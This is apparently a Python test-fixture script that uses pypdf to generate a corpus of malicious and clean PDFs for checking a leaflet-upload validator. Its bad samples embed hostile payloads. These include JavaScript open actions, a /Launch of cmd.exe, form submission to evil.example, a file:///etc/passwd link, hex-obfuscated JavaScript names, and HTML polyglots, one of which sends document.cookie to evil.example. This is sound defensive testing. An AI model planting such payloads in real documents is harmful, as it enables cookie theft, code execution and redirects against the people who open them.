"""Build the leaflet PDF corpus in tests/leaflets/pdf_corpus/: PDFs an attacker (or a careless
export) might upload, and plain ones that must be accepted. Deterministic: the same bytes every
run, so the files are checked in and a test compares them with what this script makes.

    .venv/bin/python tests/leaflets/make_pdf_corpus.py

A file's name says what the check must say about it: good-*, or bad-<kind>-* where kind is
active, embedded, html, notpdf, encrypted or empty.
"""
from __future__ import annotations

import io
import re
import struct
import sys
import zlib
from collections.abc import Callable
from pathlib import Path

from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    ByteStringObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

CORPUS = Path(__file__).resolve().parent / "pdf_corpus"


def N(name: str) -> NameObject:  # noqa: N802 - reads like the PDF it writes
    return NameObject(name)


def S(text: str) -> TextStringObject:  # noqa: N802
    return TextStringObject(text)


def D(**entries) -> DictionaryObject:  # noqa: N802
    return DictionaryObject({N("/" + key): value for key, value in entries.items()})


def _rect(*numbers) -> ArrayObject:
    return ArrayObject(FloatObject(n) for n in numbers)


def _writer(pages: int = 1, text: str = "A good latch") -> PdfWriter:
    """A plain leaflet: text pages in Helvetica."""
    writer = PdfWriter()
    font = writer._add_object(D(Type=N("/Font"), Subtype=N("/Type1"), BaseFont=N("/Helvetica")))
    for number in range(1, pages + 1):
        page = writer.add_blank_page(595, 842)
        page[N("/Resources")] = D(Font=D(F1=font))
        content = DecodedStreamObject()
        content.set_data(f"BT /F1 14 Tf 72 770 Td ({text}, page {number}) Tj ET".encode())
        page[N("/Contents")] = writer._add_object(content)
    return writer


def _bytes(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _first_page(writer: PdfWriter):
    return writer.pages[0]


def _catalog(writer: PdfWriter) -> DictionaryObject:
    return writer._root_object


def _with_annotation(annotation: DictionaryObject) -> bytes:
    writer = _writer()
    page = _first_page(writer)
    page[N("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return _bytes(writer)


def _link(action: DictionaryObject) -> DictionaryObject:
    return D(Type=N("/Annot"), Subtype=N("/Link"), Rect=_rect(72, 700, 300, 720), Border=ArrayObject(
        [NumberObject(0), NumberObject(0), NumberObject(0)]), A=action)


def _insert(data: bytes, at: int, extra: bytes) -> bytes:
    """Put raw bytes into a PDF pypdf wrote, moving the cross-reference offsets after them, so
    that the file stays valid: pypdf escapes < > : in strings, and a polyglot needs them raw."""
    data = data[:at] + extra + data[at:]
    table = data.rindex(b"\nxref\n") + 1

    def moved(match):
        offset = int(match.group(1))
        return b"%010d" % (offset + len(extra) if offset >= at else offset) + match.group(2)
    head, rest = data[:table], data[table:]
    rest = re.sub(rb"(?m)^(\d{10})( \d{5} n)", moved, rest)
    start = rest.index(b"startxref\n") + len(b"startxref\n")
    end = rest.index(b"\n", start)
    return head + rest[:start] + str(table).encode() + rest[end:]


def _after_header(data: bytes, extra: bytes) -> bytes:
    """Bytes right after the header lines, where a browser sniffing the file looks first."""
    return _insert(data, data.index(b"\n", data.index(b"\n") + 1) + 1, extra)


def _before_xref(data: bytes, extra: bytes) -> bytes:
    return _insert(data, data.rindex(b"\nxref\n") + 1, extra)


def _png() -> bytes:
    """A real 2x2 PNG picture."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    raw = b"".join(b"\x00" + b"\xff\x00\x00" * 2 for _ in range(2))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b""))


# ---- the bad ones -----------------------------------------------------------------------------

def js_openaction() -> bytes:
    writer = _writer()
    _catalog(writer)[N("/OpenAction")] = D(S=N("/JavaScript"), JS=S("app.alert('hello');"))
    return _bytes(writer)


def js_page_aa() -> bytes:
    writer = _writer()
    _first_page(writer)[N("/AA")] = D(O=D(S=N("/JavaScript"), JS=S("this.submitForm('https://evil.example');")))
    return _bytes(writer)


def js_names_tree() -> bytes:
    writer = _writer()
    script = writer._add_object(D(S=N("/JavaScript"), JS=S("app.alert('from the name tree');")))
    _catalog(writer)[N("/Names")] = D(JavaScript=D(Names=ArrayObject([S("greeting"), script])))
    return _bytes(writer)


def js_acroform_field() -> bytes:
    writer = _writer()
    field = writer._add_object(D(FT=N("/Tx"), T=S("name"), Rect=_rect(72, 600, 300, 620),
                                 AA=D(K=D(S=N("/JavaScript"), JS=S("event.rc = true;")))))
    _catalog(writer)[N("/AcroForm")] = D(Fields=ArrayObject([field]))
    return _bytes(writer)


def launch_action() -> bytes:
    return _with_annotation(_link(D(S=N("/Launch"), F=S("C:\\Windows\\System32\\cmd.exe"))))


def embedded_file_names() -> bytes:
    writer = _writer()
    writer.add_attachment("invoice.exe", b"MZ not really a program")
    return _bytes(writer)


def file_attachment_annotation() -> bytes:
    return _with_annotation(D(Type=N("/Annot"), Subtype=N("/FileAttachment"), Rect=_rect(72, 700, 90, 720),
                              FS=D(Type=N("/Filespec"), F=S("notes.txt"))))


def richmedia_annotation() -> bytes:
    return _with_annotation(D(Type=N("/Annot"), Subtype=N("/RichMedia"), Rect=_rect(72, 500, 300, 700),
                              RichMediaContent=D(Assets=D(Names=ArrayObject()))))


def submitform() -> bytes:
    return _with_annotation(_link(D(S=N("/SubmitForm"), F=D(FS=N("/URL"), F=S("https://evil.example/collect")))))


def importdata() -> bytes:
    return _with_annotation(_link(D(S=N("/ImportData"), F=S("data.fdf"))))


def gotor() -> bytes:
    return _with_annotation(_link(D(S=N("/GoToR"), F=S("other.pdf"), D=ArrayObject([NumberObject(0), N("/Fit")]))))


def gotoe() -> bytes:
    return _with_annotation(_link(D(S=N("/GoToE"), T=D(R=N("/C"), N=S("inside.pdf")))))


def xfa_form() -> bytes:
    writer = _writer()
    xfa = DecodedStreamObject()
    xfa.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>')
    _catalog(writer)[N("/AcroForm")] = D(Fields=ArrayObject(), XFA=writer._add_object(xfa))
    return _bytes(writer)


def uri_javascript() -> bytes:
    return _with_annotation(_link(D(S=N("/URI"), URI=S("javascript:alert(document.domain)"))))


def uri_javascript_mixed_case_tab() -> bytes:
    return _with_annotation(_link(D(S=N("/URI"), URI=S("JaVa\tScRiPt:alert(1)"))))


def uri_file() -> bytes:
    return _with_annotation(_link(D(S=N("/URI"), URI=S("file:///etc/passwd"))))


def obfuscated_name() -> bytes:
    """/J#61vaScript is /JavaScript to a viewer (and to pypdf)."""
    data = _bytes(_writer())
    return data.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")


def unreachable_javascript() -> bytes:
    """A script in an object nothing points to, all its names hex-escaped."""
    writer = _writer()
    writer._add_object(D(S=N("/JavaScript"), JS=S("app.alert(2);")))
    return _bytes(writer).replace(b"/JavaScript", b"/#4Aava#53cript").replace(b"/JS ", b"/#4A#53 ")


def polyglot_img_onerror() -> bytes:
    return _after_header(_bytes(_writer()), b'%<img src=x onerror="alert(document.cookie)">\n')


def polyglot_meta_refresh() -> bytes:
    """In the document's information, as a raw string."""
    data = _bytes(_writer())
    at = data.index(b"/Producer (pypdf)") + len(b"/Producer (pypdf)")
    return _insert(data, at, b'\n/Subject (<meta http-equiv="refresh" content="0;url=https://evil.example/">)')


def polyglot_a_javascript() -> bytes:
    return _before_xref(_bytes(_writer()), b'%<a href="javascript:alert(1)">read more</a>\n')


def polyglot_script() -> bytes:
    return _before_xref(_bytes(_writer()), b"%<script>fetch('https://evil.example/?c='+document.cookie)</script>\n")


def polyglot_svg_in_stream() -> bytes:
    return _bytes(_writer(text="<svg onload=alert(1)>"))


def polyglot_iframe_uppercase() -> bytes:
    return _after_header(_bytes(_writer()), b'%<IFRAME SRC="https://evil.example/"></IFRAME>\n')


def polyglot_javascript_address_alone() -> bytes:
    return _before_xref(_bytes(_writer()), b"%see javascript:alert(1)\n")


def html_renamed() -> bytes:
    return b'<!doctype html>\n<html><body><h1>Leaflet</h1><script>alert(1)</script></body></html>\n'


def html_with_pdf_header() -> bytes:
    return b"%PDF-1.7\n<html><body onload=alert(1)>not really a PDF</body></html>\n%%EOF\n"


def truncated() -> bytes:
    data = _bytes(_writer(pages=2))
    return data[: len(data) // 2]


def cut_body_kept_end() -> bytes:
    """The start and the end marker of a PDF, with nothing that parses in between."""
    return b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"


def empty() -> bytes:
    return b""


def encrypted() -> bytes:
    writer = _writer()

    def fixed_identifiers() -> None:  # pypdf draws random ones; the corpus must not change
        writer._ID = ArrayObject([ByteStringObject(b"\x01" * 16), ByteStringObject(b"\x01" * 16)])
    writer.generate_file_identifiers = fixed_identifiers
    writer.encrypt("a secret", algorithm="RC4-128")
    return _bytes(writer)


def png_renamed() -> bytes:
    return _png()


# ---- the good ones ----------------------------------------------------------------------------

def plain() -> bytes:
    return _bytes(_writer())


def https_link() -> bytes:
    writer = _writer(text="Sources: who.int")
    writer.add_annotation(0, Link(rect=(72, 760, 300, 780), url="https://www.who.int/health-topics/breastfeeding"))
    return _bytes(writer)


def multipage() -> bytes:
    return _bytes(_writer(pages=4, text="Night feeds"))


def compressed_with_picture() -> bytes:
    """Compressed page text and a picture whose bytes happen to hold /JS, /AA and '<a b': stream
    data, which a viewer does not read as names or a browser as a link."""
    writer = _writer(pages=2)
    for page in writer.pages:
        page.compress_content_streams()
    picture = DecodedStreamObject()
    picture.set_data(bytes(range(256)) * 2 + b" /JS /AA <a b " + bytes(range(255, -1, -1)))
    picture.update({N("/Type"): N("/XObject"), N("/Subtype"): N("/Image"), N("/Width"): NumberObject(10),
                    N("/Height"): NumberObject(10), N("/ColorSpace"): N("/DeviceGray"),
                    N("/BitsPerComponent"): NumberObject(8)})
    writer.pages[0][N("/Resources")][N("/XObject")] = D(Im1=writer._add_object(picture))
    return _bytes(writer)


CORPUS_FILES: dict[str, Callable[[], bytes]] = {
    "bad-active-js-openaction.pdf": js_openaction,
    "bad-active-js-page-aa.pdf": js_page_aa,
    "bad-active-js-names-tree.pdf": js_names_tree,
    "bad-active-js-acroform-field.pdf": js_acroform_field,
    "bad-active-launch.pdf": launch_action,
    "bad-active-submitform.pdf": submitform,
    "bad-active-importdata.pdf": importdata,
    "bad-active-gotor.pdf": gotor,
    "bad-active-gotoe.pdf": gotoe,
    "bad-active-xfa-form.pdf": xfa_form,
    "bad-active-uri-javascript.pdf": uri_javascript,
    "bad-active-uri-javascript-mixed-case-tab.pdf": uri_javascript_mixed_case_tab,
    "bad-active-uri-file.pdf": uri_file,
    "bad-active-obfuscated-name.pdf": obfuscated_name,
    "bad-active-unreachable-javascript.pdf": unreachable_javascript,
    "bad-embedded-file-in-names.pdf": embedded_file_names,
    "bad-embedded-file-attachment-annotation.pdf": file_attachment_annotation,
    "bad-embedded-richmedia-annotation.pdf": richmedia_annotation,
    "bad-html-polyglot-img-onerror.pdf": polyglot_img_onerror,
    "bad-html-polyglot-meta-refresh.pdf": polyglot_meta_refresh,
    "bad-html-polyglot-a-javascript.pdf": polyglot_a_javascript,
    "bad-html-polyglot-script.pdf": polyglot_script,
    "bad-html-polyglot-svg-in-page-text.pdf": polyglot_svg_in_stream,
    "bad-html-polyglot-iframe-uppercase.pdf": polyglot_iframe_uppercase,
    "bad-html-polyglot-javascript-address.pdf": polyglot_javascript_address_alone,
    "bad-notpdf-html-renamed.pdf": html_renamed,
    "bad-html-html-with-pdf-header.pdf": html_with_pdf_header,
    "bad-notpdf-truncated.pdf": truncated,
    "bad-notpdf-nothing-between-start-and-end.pdf": cut_body_kept_end,
    "bad-notpdf-png-renamed.pdf": png_renamed,
    "bad-empty.pdf": empty,
    "bad-encrypted.pdf": encrypted,
    "good-plain.pdf": plain,
    "good-https-link.pdf": https_link,
    "good-multipage.pdf": multipage,
    "good-compressed-with-picture.pdf": compressed_with_picture,
}


def build() -> dict[str, bytes]:
    return {name: make() for name, make in CORPUS_FILES.items()}


def main() -> int:
    CORPUS.mkdir(exist_ok=True)
    for name, data in build().items():
        (CORPUS / name).write_bytes(data)
    print(f"{len(CORPUS_FILES)} files in {CORPUS}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
